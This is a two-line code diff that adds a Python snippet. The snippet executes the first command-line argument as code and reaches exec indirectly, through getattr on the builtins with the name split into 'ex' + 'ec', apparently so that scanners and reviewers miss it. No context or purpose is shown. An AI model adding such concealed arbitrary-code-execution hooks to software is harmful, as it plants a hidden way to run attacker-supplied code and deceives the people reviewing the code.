@@ -1,0 +1,2 @@
+import sys
+getattr(__builtins__, "ex" + "ec")(sys.argv[1])
